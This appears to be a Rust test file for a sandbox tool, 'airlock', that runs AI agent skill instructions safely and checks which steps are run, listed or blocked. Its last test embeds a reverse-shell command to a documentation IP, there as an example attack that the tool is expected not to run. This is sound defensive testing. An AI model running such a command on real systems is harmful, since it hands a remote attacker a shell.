//! A plain `airlock run` as a new user meets it on a published skill: only the steps that can run as they stand
//! run, in the environment skills assume; the rest is listed with why; what the failed step printed is on screen.

use std::os::unix::fs::PermissionsExt;

use super::util::{airlock, changes, commit_all, init_repo, skill_md, word_after, write};

const BODY: &str = "Check the project:

```bash
python scripts/check.py
echo checked
```

Start the preview, look, stop it:

```bash
python3 -m http.server 8765 &
PREVIEW=$!
sleep 0.3
kill $PREVIEW
```

```bash
if [ -d src ]; then
  echo has-src
fi
```

Stop the viewer when done:

```bash
kill $VIEWER_PID
npm run dev
pip install six
```

Initialise a copy:

```bash
scripts/init.py demo
scripts/init.py demo --force
```

Again, if needed:

```bash
scripts/init.py demo   # once more
```

Or from Python (`scripts/stats.py` sums values):

```python
import sys
sys.path.insert(0, \"scripts\")
from stats import summary
print(summary([1, 2]))
```

Rendering uses `scripts/helper.py` and `templates/page.py`; `scripts/convert.py` converts one file.
";

fn plan_skill(root: &std::path::Path) -> std::path::PathBuf {
    let dir = root.join("planned");
    write(&dir, "SKILL.md", &skill_md("planned", BODY));
    write(
        &dir,
        "scripts/check.py",
        "import sys\nfrom helper import greet\nprint('validating the project')\nprint('ERROR: field name is missing')\nprint(greet(), file=sys.stderr)\nsys.exit(1)\n",
    );
    write(
        &dir,
        "scripts/helper.py",
        "def greet():\n    return 'from the helper'\n\nif __name__ == '__main__':\n    print(greet())\n",
    );
    write(
        &dir,
        "scripts/convert.py",
        "import argparse\np = argparse.ArgumentParser()\np.add_argument('input')\nprint(p.parse_args().input)\n",
    );
    // Not executable in git: started with its interpreter, as an agent would after `Permission denied`.
    write(
        &dir,
        "scripts/init.py",
        "import sys\nprint('initialised', sys.argv[1:])\n",
    );
    std::fs::set_permissions(
        dir.join("scripts/init.py"),
        std::fs::Permissions::from_mode(0o644),
    )
    .unwrap();
    write(&dir, "templates/page.py", "print('a template')\n");
    write(
        &dir,
        "scripts/stats.py",
        "def summary(xs):\n    return sum(xs)\n\nif __name__ == '__main__':\n    raise SystemExit('Provide --values')\n",
    );
    dir
}

#[test]
fn a_plain_run_runs_real_steps_lists_the_rest_and_shows_the_failure() {
    let tmp = tempfile::tempdir().unwrap();
    let data = tmp.path().join("data");
    let dir = plan_skill(tmp.path());
    // --no-install: nothing leaves the machine; the install command is listed as not run, with why.
    let run = airlock(&data, &["run", dir.to_str().unwrap(), "--no-install"]);
    let out = &run.stdout;
    assert_eq!(run.code, 1, "{out}\n{}", run.stderr);
    let (steps, rest) = out.split_once("Not run (listed, with why):").unwrap();
    // `python` is there beside `python3`; the failed step's own output is on screen, not the next step's.
    assert!(
        steps.contains("python /skill/scripts/check.py  -> exit 1"),
        "{out}"
    );
    assert!(steps.contains("echo checked  -> exit 0"), "{out}");
    let shown = rest
        .split_once("What the failed step (SKILL.md:")
        .map_or("", |(_, shown)| shown);
    assert!(shown.contains("> ERROR: field name is missing"), "{out}");
    assert!(shown.contains("| from the helper"), "{out}");
    assert!(!shown.contains("checked"), "{out}");
    // A block that shares state is one script; a compound command is one step.
    assert!(
        steps.contains("python3 -m http.server 8765 &\n        | PREVIEW=$!"),
        "{out}"
    );
    assert!(steps.contains("kill $PREVIEW  -> exit 0"), "{out}");
    assert!(steps.contains("        | fi  -> exit 0"), "{out}");
    // A script the instructions start without its executable bit runs with its interpreter; a variant of the
    // same command is listed, not run again.
    assert!(
        steps.contains("python3 /skill/scripts/init.py demo  -> exit 0"),
        "{out}"
    );
    for (line, why) in [
        (
            "kill $VIEWER_PID",
            "it uses $VIEWER_PID, which nothing before it sets",
        ),
        ("npm run dev", "a server that runs until it is stopped"),
        ("pip install six", "the install phase is off (--no-install)"),
        (
            "scripts/init.py demo --force",
            "a variant of the command at SKILL.md:",
        ),
        (
            "scripts/init.py demo   # once more",
            "the same command as at SKILL.md:",
        ),
        (
            "python3 scripts/helper.py",
            "a helper: scripts/check.py imports it",
        ),
        (
            "python3 scripts/convert.py",
            "it needs arguments the instructions do not give",
        ),
        ("python3 templates/page.py", "a template (templates/)"),
        (
            "python3 scripts/stats.py",
            "a module the instructions' code imports (SKILL.md:",
        ),
    ] {
        let listed = rest.lines().find(|l| l.contains(line)).unwrap_or_default();
        assert!(listed.contains(why), "{line}: {listed}\n{out}");
    }
    // The local server's own address probes are not network attempts.
    assert!(!out.contains("denied"), "{out}");
    let id = word_after(out, "run ");
    let record = airlock(&data, &["show", &id, "--json"]).json();
    let net = record["network"].as_array().unwrap();
    assert!(
        net.iter().all(|a| a["decision"] != "denied"),
        "{}",
        record["network"]
    );
    // The dry run shows the same plan.
    let dry = airlock(&data, &["run", "--mode", "dry-run", dir.to_str().unwrap()]);
    assert!(
        dry.stdout
            .contains("kill $VIEWER_PID  (not run: it uses $VIEWER_PID"),
        "{}",
        dry.stdout
    );
}

/// `uv run x.py` is the script run by the sandbox's python3, with its inline dependencies installed before the run;
/// the dry run says so.
#[test]
fn uv_run_is_shown_as_what_runs() {
    let tmp = tempfile::tempdir().unwrap();
    let data = tmp.path().join("data");
    let dir = tmp.path().join("uvskill");
    write(
        &dir,
        "SKILL.md",
        &skill_md("uvskill", "Run:\n\n```bash\nuv run scripts/hello.py\n```\n"),
    );
    write(
        &dir,
        "scripts/hello.py",
        "# /// script\n# dependencies = []\n# ///\nprint('hello from uv')\n",
    );
    let dry = airlock(&data, &["run", "--mode", "dry-run", dir.to_str().unwrap()]);
    assert!(
        dry.stdout
            .contains("python3 /skill/scripts/hello.py  (`uv run` here is `python3`"),
        "{}",
        dry.stdout
    );
    let run = airlock(&data, &["run", dir.to_str().unwrap()]);
    assert_eq!(run.code, 0, "{}\n{}", run.stdout, run.stderr);
    assert!(run.stdout.contains("> hello from uv"), "{}", run.stdout);
}

/// The smaller points a user meets around a run: `show --diff` keeps git's no-newline marker as git writes it,
/// `show --net` says when there was no attempt, a `file://` import prints its pinned URL, and `allowed-tools`
/// keeps a tool's arguments together.
#[test]
fn show_diff_net_pinned_url_and_allowed_tools_read_as_written() {
    let tmp = tempfile::tempdir().unwrap();
    let data = tmp.path().join("data");
    let repo = init_repo(&tmp.path().join("repo"));
    fs_err::write(
        repo.join("SKILL.md"),
        "---\nname: footer\ndescription: Adds a footer. Use it on a project.\nallowed-tools: Bash(python3 scripts/add_footer.py:*) Read\n---\n\nRun:\n\n```bash\nprintf 'footer' > FOOTER.txt\n```\n",
    )
    .unwrap();
    let head = commit_all(&repo, "skill");
    let url = format!("file://{}", repo.display());
    let scan = airlock(&data, &["scan", &url, "--json"]);
    let report: serde_json::Value = serde_json::from_str(&scan.stdout).unwrap();
    assert_eq!(
        report["source"]["pinned_url"],
        format!("{url}#{head}").as_str(),
        "{}",
        scan.stdout
    );
    let dry = airlock(&data, &["run", "--mode", "dry-run", &url]);
    assert!(
        dry.stdout
            .contains("allowed-tools: Bash(python3 scripts/add_footer.py:*), Read"),
        "{}",
        dry.stdout
    );
    let run = airlock(&data, &["run", &url]);
    assert_eq!(run.code, 0, "{}\n{}", run.stdout, run.stderr);
    let id = word_after(&run.stdout, "run ");
    let diff = airlock(&data, &["show", &id, "--diff"]).stdout;
    assert!(diff.contains("+footer\n\\ No newline at end of file"), "{diff}");
    let net = airlock(&data, &["show", &id, "--net"]).stdout;
    assert!(net.contains("network:\n  no network attempts"), "{net}");
}

/// A program this machine has outside the folders a sandbox sees is said as such, not as missing from the machine.
#[test]
fn a_program_outside_the_sandbox_is_named_as_such() {
    let tmp = tempfile::tempdir().unwrap();
    let data = tmp.path().join("data");
    let bin = tmp.path().join("bin");
    write(&bin, "only-here-tool", "#!/bin/sh\necho hi\n");
    std::fs::set_permissions(bin.join("only-here-tool"), std::fs::Permissions::from_mode(0o755)).unwrap();
    let dir = tmp.path().join("uses-tool");
    write(
        &dir,
        "SKILL.md",
        &skill_md("uses-tool", "Run:\n\n```bash\nonly-here-tool --check\n```\n"),
    );
    let path = format!("{}:{}", bin.display(), std::env::var("PATH").unwrap_or_default());
    let out = std::process::Command::new(env!("CARGO_BIN_EXE_airlock"))
        .args(["run", dir.to_str().unwrap()])
        .env("AIRLOCK_DATA_DIR", &data)
        .env("PATH", path)
        .output()
        .unwrap();
    let stdout = String::from_utf8_lossy(&out.stdout);
    assert_eq!(out.status.code(), Some(127), "{stdout}");
    assert!(
        stdout.contains(&format!(
            "needs only-here-tool: on this machine ({}) but not in the sandbox",
            bin.join("only-here-tool").display()
        )),
        "{stdout}"
    );
}

/// `--script` of a module of a package (it imports relatively) runs it as `python3 -m`, as its instructions would.
#[test]
fn a_script_that_is_a_module_runs_as_one() {
    let tmp = tempfile::tempdir().unwrap();
    let data = tmp.path().join("data");
    let dir = tmp.path().join("packaged");
    write(
        &dir,
        "SKILL.md",
        &skill_md(
            "packaged",
            "Run `python -m scripts.pkg.cli NAME` from the skill's folder.\n",
        ),
    );
    write(&dir, "scripts/pkg/__init__.py", "");
    write(
        &dir,
        "scripts/pkg/core.py",
        "def hello(name):\n    return 'hello ' + name\n",
    );
    write(
        &dir,
        "scripts/pkg/cli.py",
        "import sys\nfrom .core import hello\nprint(hello(sys.argv[1]))\n",
    );
    let run = airlock(
        &data,
        &[
            "run",
            dir.to_str().unwrap(),
            "--script",
            "scripts/pkg/cli.py",
            "--",
            "module",
        ],
    );
    assert_eq!(run.code, 0, "{}\n{}", run.stdout, run.stderr);
    assert!(run.stdout.contains("> hello module"), "{}", run.stdout);
}

/// A step of the instructions that runs a module of the skill's own (`python -m scripts.cli`) finds it, as it would
/// from the skill's folder; the dry run lists it as a step.
#[test]
fn a_step_that_runs_a_module_of_the_skill_finds_it() {
    let tmp = tempfile::tempdir().unwrap();
    let data = tmp.path().join("data");
    let dir = tmp.path().join("modular");
    write(
        &dir,
        "SKILL.md",
        &skill_md(
            "modular",
            "Check the layers:\n\n```bash\npython -m scripts.cli check\n```\n",
        ),
    );
    write(&dir, "scripts/__init__.py", "");
    write(&dir, "scripts/core.py", "def check():\n    return 'layers ok'\n");
    write(
        &dir,
        "scripts/cli.py",
        "import sys\nfrom scripts.core import check\nprint(check() if sys.argv[1] == 'check' else 'no')\n",
    );
    let run = airlock(&data, &["run", dir.to_str().unwrap()]);
    assert_eq!(run.code, 0, "{}\n{}", run.stdout, run.stderr);
    assert!(run.stdout.contains("layers ok"), "{}", run.stdout);
}

/// Instructions that find the skill's own scripts where an agent installs it (`~/.claude/skills/<name>`) find them.
#[test]
fn a_skill_finds_itself_where_an_agent_installs_it() {
    let tmp = tempfile::tempdir().unwrap();
    let data = tmp.path().join("data");
    let dir = tmp.path().join("selfish");
    write(
        &dir,
        "SKILL.md",
        &skill_md(
            "selfish",
            "Greet:\n\n```bash\nSCRIPT=$(find ~/.claude -path \"*/selfish/scripts/hello.py\" -print -quit)\npython3 \"$SCRIPT\" world\n```\n",
        ),
    );
    write(
        &dir,
        "scripts/hello.py",
        "import sys\nprint('hello ' + sys.argv[1])\n",
    );
    let run = airlock(&data, &["run", dir.to_str().unwrap()]);
    assert_eq!(run.code, 0, "{}\n{}", run.stdout, run.stderr);
    assert!(run.stdout.contains("hello world"), "{}", run.stdout);
}

/// A skill's setup script, named in its prerequisites, runs before the commands that need what it makes; a path
/// through the folder of the skills (`{skillsRoot}/NAME/…`) is the skill's own file.
#[test]
fn a_setup_script_runs_first_and_the_skills_root_holds_the_skill() {
    let tmp = tempfile::tempdir().unwrap();
    let data = tmp.path().join("data");
    let dir = tmp.path().join("kanban");
    let body = "## Prerequisites\n\n- Run `${CLAUDE_SKILL_DIR}/scripts/setup.sh` once to make the board\n\n## Commands\n\n```bash\nnode ${CLAUDE_SKILL_DIR}/scripts/board.mjs\n```\n\nCompile it:\n\n```bash\nnode {skillsRoot}/kanban/scripts/compile.cjs --all\n```\n";
    write(&dir, "SKILL.md", &skill_md("kanban", body));
    write(&dir, "scripts/setup.sh", "#!/bin/sh\necho made > /tmp/board\n");
    write(
        &dir,
        "scripts/board.mjs",
        "import { readFileSync } from 'node:fs';\nconsole.log('board ' + readFileSync('/tmp/board', 'utf8').trim());\n",
    );
    write(
        &dir,
        "scripts/compile.cjs",
        "console.log('compiled ' + process.argv[2]);\n",
    );
    let run = airlock(&data, &["run", dir.to_str().unwrap()]);
    let out = &run.stdout;
    assert_eq!(run.code, 0, "{out}\n{}", run.stderr);
    assert!(out.contains("board made"), "{out}");
    assert!(out.contains("compiled --all"), "{out}");
    let setup = out.find("scripts/setup.sh").unwrap();
    assert!(setup < out.find("scripts/board.mjs").unwrap(), "{out}");
}

/// A placeholder that stands for the project (`<path-to-repo>`) is the target, as an agent fills it in with the
/// user's project: the step runs on it, and says so.
#[test]
fn the_project_placeholder_is_the_target() {
    let tmp = tempfile::tempdir().unwrap();
    let data = tmp.path().join("data");
    let dir = tmp.path().join("counter");
    write(
        &dir,
        "SKILL.md",
        &skill_md(
            "counter",
            "Count the project's files:\n\n```bash\npython3 scripts/count.py <path-to-repo>\npython3 scripts/count.py <path-to-repo> --only <ext>\n```\n\nWith a settings file:\n\n```bash\n[ -f \"$HOME/.counterrc\" ] && cat \"$HOME/.counterrc\"\n```\n\nThen the project's own check:\n\n```bash\n./scripts/validate_project.sh\n```\n",
        ),
    );
    write(
        &dir,
        "scripts/count.py",
        "import os, sys\nprint('files:', sum(len(f) for _, _, f in os.walk(sys.argv[1])))\n",
    );
    let run = airlock(&data, &["run", dir.to_str().unwrap()]);
    assert_eq!(run.code, 0, "{}\n{}", run.stdout, run.stderr);
    let (steps, rest) = run.stdout.split_once("Not run").unwrap_or((&run.stdout, ""));
    assert!(
        steps.contains("python3 /skill/scripts/count.py /workspace  -> exit 0"),
        "{}",
        run.stdout
    );
    assert!(run.stdout.contains("files: "), "{}", run.stdout);
    // A test that does not hold skips its command: not a failure.
    assert!(
        steps.contains("if [ -f \"$HOME/.counterrc\" ]; then cat \"$HOME/.counterrc\"; fi  -> exit 0"),
        "{}",
        run.stdout
    );
    // A program of the project's own, which the target does not have, is listed, not run into a 127.
    let listed = rest
        .lines()
        .find(|l| l.contains("validate_project.sh"))
        .unwrap_or_default();
    assert!(
        listed.contains("which is in neither the skill nor the target"),
        "{}",
        run.stdout
    );
    // A command with another placeholder left is still an example.
    assert!(
        rest.contains("an example: `<ext>` is a placeholder"),
        "{}",
        run.stdout
    );
    let dry = airlock(&data, &["run", dir.to_str().unwrap(), "--mode", "dry-run"]);
    assert!(
        dry.stdout
            .contains("`<path-to-repo>` is the project the skill works on: the target, at /workspace"),
        "{}",
        dry.stdout
    );
}

/// A skill that writes into its own folder (a cache, an environment) can: the folder is copy-on-write, the copy
/// airlock staged is never written, and nothing of it is a change to the target.
#[test]
fn a_skill_writes_into_its_own_folder_and_nothing_of_it_stays() {
    let tmp = tempfile::tempdir().unwrap();
    let data = tmp.path().join("data");
    let dir = tmp.path().join("cacher");
    write(
        &dir,
        "SKILL.md",
        &skill_md(
            "cacher",
            "Warm the cache:\n\n```bash\nmkdir -p \"$SKILL_DIR/.cache\" && echo warm > \"$SKILL_DIR/.cache/state\"\necho \"state: $(cat \"$SKILL_DIR/.cache/state\")\"\n```\n",
        ),
    );
    let run = airlock(&data, &["run", "--json", dir.to_str().unwrap()]);
    assert_eq!(run.code, 0, "{}\n{}", run.stdout, run.stderr);
    let record = run.json();
    assert!(
        record["stdout"].as_str().unwrap().contains("state: warm"),
        "{record}"
    );
    assert_eq!(record["changes"], serde_json::json!([]), "{record}");
    assert!(!dir.join(".cache").exists());
    // Nor in the staged copy under the data folder: a second run starts from the skill as scanned.
    let again = airlock(&data, &["run", "--json", dir.to_str().unwrap()]);
    assert_eq!(again.code, 0, "{}", again.stdout);
    let staged_cache = walkdir_has(&data, "state");
    assert!(!staged_cache, "a file the run wrote is in the data folder");
}

/// Whether any file under `root` has this name.
fn walkdir_has(root: &std::path::Path, name: &str) -> bool {
    let Ok(entries) = fs_err::read_dir(root) else {
        return false;
    };
    entries.flatten().any(|e| {
        let p = e.path();
        if p.is_dir() && !p.is_symlink() {
            walkdir_has(&p, name)
        } else {
            p.file_name().is_some_and(|n| n == name)
        }
    })
}

/// A path of the author's machine to the skill's own file (`/home/user/skills/<name>/assets/…`) reads the skill's file.
#[test]
fn a_path_of_the_authors_machine_to_the_skills_file_is_the_skills_file() {
    let tmp = tempfile::tempdir().unwrap();
    let data = tmp.path().join("data");
    let dir = tmp.path().join("cfgcopy");
    write(
        &dir,
        "SKILL.md",
        &skill_md("cfgcopy", "Show the template:\n\n```bash\ncat /home/user/claude-skills/cfgcopy/assets/config.example\n```\n"),
    );
    write(&dir, "assets/config.example", "token = <yours>\n");
    let run = airlock(&data, &["run", dir.to_str().unwrap()]);
    assert_eq!(run.code, 0, "{}\n{}", run.stdout, run.stderr);
    assert!(run.stdout.contains("token = <yours>"), "{}", run.stdout);
}

/// Data that documentation shows in a shell block (a connection string, SQL) and commands with a placeholder in
/// quotes are listed with why, not run; a real command beside them runs.
#[test]
fn data_in_shell_blocks_and_quoted_placeholders_are_listed_not_run() {
    let tmp = tempfile::tempdir().unwrap();
    let data = tmp.path().join("data");
    let dir = tmp.path().join("db-docs");
    let body = "To install this skill's dependencies:\n\n```bash\npip-compile ./requirements.in\n```\n\nConnect with:\n\n```bash\nmongodb+srv://user:secret@cluster0.example.net/app\n```\n\nClean up:\n\n```bash\nDELETE FROM sessions WHERE expired = true;\n```\n\nCall the API:\n\n```bash\ncurl -s \"<baseUrl>/api/v1/items\"\necho listed\ndbtool show \"<change>\" --json\n```\n";
    write(&dir, "SKILL.md", &skill_md("db-docs", body));
    let run = airlock(&data, &["run", dir.to_str().unwrap(), "--mode", "dry-run"]);
    let out = &run.stdout;
    for (line, why) in [
        ("mongodb+srv://", "not a command: `mongodb+srv://"),
        (
            "DELETE FROM sessions",
            "not a command: `DELETE` is an SQL statement",
        ),
        (
            "<baseUrl>/api/v1/items",
            "an example: `<baseUrl>` is a placeholder",
        ),
        ("dbtool show", "an example: `<change>` is a placeholder"),
        ("pip-compile", "regenerates the skill's dependency lock file"),
    ] {
        let listed = out
            .lines()
            .find(|l| l.contains("[shell]") && l.contains(line))
            .unwrap_or_default();
        assert!(listed.contains(why), "{line}: {listed}\n{out}");
    }
    let ran = airlock(&data, &["run", dir.to_str().unwrap()]);
    assert!(ran.stdout.contains("echo listed  -> exit 0"), "{}", ran.stdout);
    assert!(
        !ran.stdout
            .contains("mongodb+srv://user:secret@cluster0.example.net/app  -> exit"),
        "{}",
        ran.stdout
    );
}

/// What only the host or the network can do is listed with its reason, not run to fail: a request to another host
/// with the network off, a write to the kernel's settings, a helper that insists on arguments; a PowerShell script
/// is started with `pwsh`.
#[test]
fn what_only_the_host_or_the_network_can_do_is_listed_with_why() {
    let tmp = tempfile::tempdir().unwrap();
    let data = tmp.path().join("data");
    let dir = tmp.path().join("ops");
    let body = "Fetch the items:\n\n```bash\ncurl -s https://api.example.com/v1/items\n```\n\nFree the page cache:\n\n```bash\necho 3 > /proc/sys/vm/drop_caches\n```\n\nSay so:\n\n```bash\necho ran\n```\n\nGenerate with `scripts/gen.py`; on Windows, `scripts/setup.ps1`.\n";
    write(&dir, "SKILL.md", &skill_md("ops", body));
    write(
        &dir,
        "scripts/gen.py",
        "import argparse\np = argparse.ArgumentParser()\np.add_argument(\n    '--prompt',\n    required=True,\n)\nprint(p.parse_args().prompt)\n",
    );
    write(&dir, "scripts/setup.ps1", "Write-Output 'hi'\n");
    let dry = airlock(&data, &["run", dir.to_str().unwrap(), "--mode", "dry-run"]);
    let out = &dry.stdout;
    for (line, why) in [
        (
            "api.example.com",
            "the network is off (--net api.example.com to run it)",
        ),
        (
            "/proc/sys/vm/drop_caches",
            "changes the host's kernel settings or services",
        ),
        ("scripts/gen.py", "needs arguments"),
    ] {
        let listed = out
            .lines()
            .find(|l| l.contains(line) && l.contains("(not run: "))
            .unwrap_or_default();
        assert!(listed.contains(why), "{line}: {listed}\n{out}");
    }
    assert!(out.contains("pwsh scripts/setup.ps1"), "{out}");
    let ran = airlock(
        &data,
        &[
            "run",
            dir.to_str().unwrap(),
            "--script",
            "scripts/gen.py",
            "--",
            "--prompt",
            "x",
        ],
    );
    assert_eq!(ran.code, 0, "{}{}", ran.stdout, ran.stderr);
}

/// A skill that uses git gets a target that is a repository of its own (one commit of the sample on `main`): its
/// commands work, its commit's bookkeeping in `.git` is not a change to review, a hook it plants there is, and the
/// patch holds only the project's files.
#[test]
fn a_skill_that_uses_git_gets_a_repository() {
    let tmp = tempfile::tempdir().unwrap();
    let data = tmp.path().join("data");
    let skill = tmp.path().join("git-notes");
    write(
        &skill,
        "SKILL.md",
        &skill_md(
            "git-notes",
            "Keeps notes in the repository.\n\n```bash\ngit log --oneline main\necho note > notes.txt && git add notes.txt && git commit -qm 'Add notes' && git log --oneline | wc -l\nprintf '#!/bin/sh\\necho later\\n' > .git/hooks/post-commit\n```\n",
        ),
    );
    let r = airlock(&data, &["run", "--json", skill.to_str().unwrap()]);
    let rec = r.json();
    assert_eq!(rec["status"], "succeeded", "{rec:#}\n{}", r.stderr);
    let stdout = rec["stdout"].as_str().unwrap();
    assert!(stdout.contains("The target as the run started"), "{stdout}");
    // Two commits: the target's, and the skill's.
    assert!(stdout.lines().any(|l| l.trim() == "2"), "{stdout}");
    let changed: Vec<String> = changes(&rec).into_iter().map(|(path, _)| path).collect();
    assert!(changed.iter().any(|p| p == "notes.txt"), "{changed:?}");
    assert!(
        changed.iter().any(|p| p == ".git/hooks/post-commit"),
        "{changed:?}"
    );
    assert!(
        !changed
            .iter()
            .any(|p| p.starts_with(".git/objects") || p == ".git/index"),
        "{changed:?}"
    );
    // A skill that never uses git gets the plain folder.
    let plain = tmp.path().join("plain");
    write(
        &plain,
        "SKILL.md",
        &skill_md("plain", "Lists.\n\n```bash\nls -a\n```\n"),
    );
    let rec = airlock(&data, &["run", "--json", plain.to_str().unwrap()]).json();
    let listed = rec["stdout"].as_str().unwrap();
    assert!(listed.lines().any(|l| l == "package.json"), "{rec:#}");
    assert!(!listed.lines().any(|l| l == ".git"), "{rec:#}");
}

/// A script the instructions show with its arguments in inline code (a usage table) runs with them; one shown with
/// a placeholder is listed with where it is shown; a path through the skill's own folder (`units/scripts/x`, from the
/// collection's root) is the skill's file.
#[test]
fn a_usage_table_gives_a_script_its_arguments() {
    let tmp = tempfile::tempdir().unwrap();
    let data = tmp.path().join("data");
    let dir = tmp.path().join("units");
    let body = "## Available Scripts\n\n| Script | Usage |\n|---|---|\n| `scripts/convert.py` | `convert.py 25 C K` |\n| `scripts/refs.sh` | `refs.sh <dir>` |\n\nCheck it works:\n\n```bash\nunits/scripts/hello.sh\n```\n";
    write(&dir, "SKILL.md", &skill_md("units", body));
    write(
        &dir,
        "scripts/convert.py",
        "import sys\nif len(sys.argv) != 4:\n    sys.exit('usage: convert.py VALUE FROM TO')\nprint('converted', sys.argv[1], sys.argv[2], 'to', sys.argv[3])\n",
    );
    write(&dir, "scripts/refs.sh", "ls \"$1\"\n");
    write(&dir, "scripts/hello.sh", "#!/bin/sh\necho hello from the skill\n");
    std::fs::set_permissions(
        dir.join("scripts/hello.sh"),
        std::fs::Permissions::from_mode(0o755),
    )
    .unwrap();
    let dry = airlock(&data, &["run", dir.to_str().unwrap(), "--mode", "dry-run"]);
    let refs = dry
        .stdout
        .lines()
        .find(|l| l.contains("[script]") && l.contains("scripts/refs.sh"))
        .unwrap_or_default();
    assert!(refs.contains("`<dir>` is a placeholder"), "{}", dry.stdout);
    let run = airlock(&data, &["run", dir.to_str().unwrap()]);
    let out = &run.stdout;
    assert_eq!(run.code, 0, "{out}\n{}", run.stderr);
    assert!(out.contains("scripts/convert.py 25 C K  -> exit 0"), "{out}");
    assert!(out.contains("converted 25 C to K"), "{out}");
    assert!(out.contains("hello from the skill"), "{out}");
}

/// A script shown started by a chain of programs (`uv run python scripts/x.py …`) gets the arguments shown; when one
/// of them is an input that exists nowhere (the user's `PROGRAM.md`), the script is listed with why, not run bare.
#[test]
fn a_script_shown_with_an_input_that_exists_nowhere_is_listed() {
    let tmp = tempfile::tempdir().unwrap();
    let data = tmp.path().join("data");
    let dir = tmp.path().join("validator");
    let body = "- `scripts/validate_program.py`: checks `PROGRAM.md`.\n\n**Validate locally:** `uv run python scripts/validate_program.py PROGRAM.md --root .`\n\nAlso: `uv run python scripts/count.py 3`\n";
    write(&dir, "SKILL.md", &skill_md("validator", body));
    let script = "import argparse, sys\np = argparse.ArgumentParser()\np.add_argument('program', nargs='?', default='PROGRAM.md')\na = p.parse_args()\nprint(open(a.program).read())\n";
    write(&dir, "scripts/validate_program.py", script);
    write(
        &dir,
        "scripts/count.py",
        "import sys\nprint('counted', sys.argv[1])\n",
    );
    let dry = airlock(&data, &["run", dir.to_str().unwrap(), "--mode", "dry-run"]);
    let line = dry
        .stdout
        .lines()
        .find(|l| l.contains("scripts/validate_program.py"))
        .unwrap_or_default();
    assert!(line.contains("PROGRAM.md"), "{}", dry.stdout);
    let run = airlock(&data, &["run", dir.to_str().unwrap()]);
    let out = &run.stdout;
    assert_eq!(run.code, 0, "{out}\n{}", run.stderr);
    assert!(out.contains("counted 3"), "{out}");
    assert!(!out.contains("validate_program.py  -> exit"), "{out}");
}

/// When nothing can run because the instructions show each script only with arguments to fill in (a list item of
/// inline code, `--repo <repo>`), the message that says so offers each script with those arguments, not a bare
/// `ARGS`, and the dry run says the same.
#[test]
fn nothing_to_run_offers_the_arguments_a_usage_line_shows() {
    let tmp = tempfile::tempdir().unwrap();
    let data = tmp.path().join("data");
    let dir = tmp.path().join("tasks");
    let body = "- `scripts/status.py --repo <repo>`: a read-only summary.\n- Run: `bash ${CLAUDE_PLUGIN_ROOT}/scripts/validate.sh <dataset-path> --schema <path-or-url>`\n";
    write(&dir, "SKILL.md", &skill_md("tasks", body));
    write(&dir, "scripts/status.py", "import sys\nprint(sys.argv)\n");
    write(&dir, "scripts/validate.sh", "#!/bin/sh\nls \"$1\"\n");
    let run = airlock(&data, &["run", dir.to_str().unwrap()]);
    assert_ne!(run.code, 0, "{}", run.stdout);
    let said = format!("{}{}", run.stdout, run.stderr);
    assert!(
        said.contains("--script scripts/status.py -- --repo <repo>"),
        "{said}"
    );
    assert!(
        said.contains("--script scripts/validate.sh -- <dataset-path> --schema <path-or-url>"),
        "{said}"
    );
    assert!(!said.contains("-- ARGS"), "{said}");
    let dry = airlock(&data, &["run", dir.to_str().unwrap(), "--mode", "dry-run"]);
    assert!(
        dry.stdout
            .contains("try --script scripts/status.py -- --repo <repo>"),
        "{}",
        dry.stdout
    );
}

/// A script's usage line whose only placeholders are optional arguments (`[WORKSPACE_ROOT]`) runs without them,
/// and says so; a required one (`<dir>`) still makes it an example.
#[test]
fn optional_arguments_are_left_out() {
    let tmp = tempfile::tempdir().unwrap();
    let data = tmp.path().join("data");
    let dir = tmp.path().join("imports-check");
    let body = "Check the imports:\n\n```bash\nbash scripts/check.sh [WORKSPACE_ROOT] [--project=<path>]\n```\n\nList one folder:\n\n```bash\nbash scripts/check.sh <dir> [--json]\n```\n";
    write(&dir, "SKILL.md", &skill_md("imports-check", body));
    write(
        &dir,
        "scripts/check.sh",
        "#!/bin/bash\necho \"checking ${1:-$(pwd)} with $# arguments\"\n",
    );
    let run = airlock(&data, &["run", dir.to_str().unwrap()]);
    let out = &run.stdout;
    assert_eq!(run.code, 0, "{out}\n{}", run.stderr);
    assert!(out.contains("checking /workspace with 0 arguments"), "{out}");
    let dry = airlock(&data, &["run", dir.to_str().unwrap(), "--mode", "dry-run"]);
    assert!(
        dry.stdout
            .contains("run without its optional arguments (`[WORKSPACE_ROOT]` `[--project=<path>]`)"),
        "{}",
        dry.stdout
    );
    assert!(dry.stdout.contains("`<dir>` is a placeholder"), "{}", dry.stdout);
}

/// A check that searches and finds nothing (`… | grep -E "a|b"`, exit 1) is an answer, not a failure: the run goes
/// on and says why; a search that errs (exit 2) still fails.
#[test]
fn a_search_that_finds_nothing_does_not_fail_the_run() {
    let tmp = tempfile::tempdir().unwrap();
    let data = tmp.path().join("data");
    let dir = tmp.path().join("tools-check");
    let body = "Which linters are there:\n\n```bash\necho 'black 24.1' | grep -E \"(pytest|ruff)\"\n```\n\nThen:\n\n```bash\necho checked\n```\n";
    write(&dir, "SKILL.md", &skill_md("tools-check", body));
    let dry = airlock(&data, &["run", dir.to_str().unwrap(), "--mode", "dry-run"]);
    assert!(
        dry.stdout
            .contains("a search that finds nothing (exit 1) is an answer"),
        "{}",
        dry.stdout
    );
    let run = airlock(&data, &["run", dir.to_str().unwrap()]);
    assert_eq!(run.code, 0, "{}\n{}", run.stdout, run.stderr);
    assert!(run.stdout.contains("echo checked  -> exit 0"), "{}", run.stdout);
    let erring = tmp.path().join("tools-err");
    let body = "```bash\necho x | grep -E \"(unclosed\"\n```\n";
    write(&erring, "SKILL.md", &skill_md("tools-err", body));
    let run = airlock(&data, &["run", erring.to_str().unwrap()]);
    assert_ne!(run.code, 0, "{}", run.stdout);
}

/// A block its label shows as an attack (a security guide's example) is listed as an example, with why, not run.
#[test]
fn a_block_shown_as_an_attack_is_listed_not_run() {
    let tmp = tempfile::tempdir().unwrap();
    let data = tmp.path().join("data");
    let dir = tmp.path().join("review");
    write(
        &dir,
        "SKILL.md",
        &skill_md(
            "review",
            "A reverse shell usually looks like:\n\n```bash\nbash -i >& /dev/tcp/203.0.113.5/4444 0>&1\n```\n\nCheck the tool first:\n\n```bash\ngit --version\n```\n",
        ),
    );
    let run = airlock(&data, &["run", dir.to_str().unwrap(), "--mode", "dry-run"]);
    let out = &run.stdout;
    let line = out.lines().find(|l| l.contains("/dev/tcp")).unwrap_or_default();
    assert!(
        line.contains("shown as an attack") || out.contains("an example shown as an attack"),
        "{out}"
    );
    let run = airlock(&data, &["run", dir.to_str().unwrap(), "--no-install"]);
    let (steps, rest) = run
        .stdout
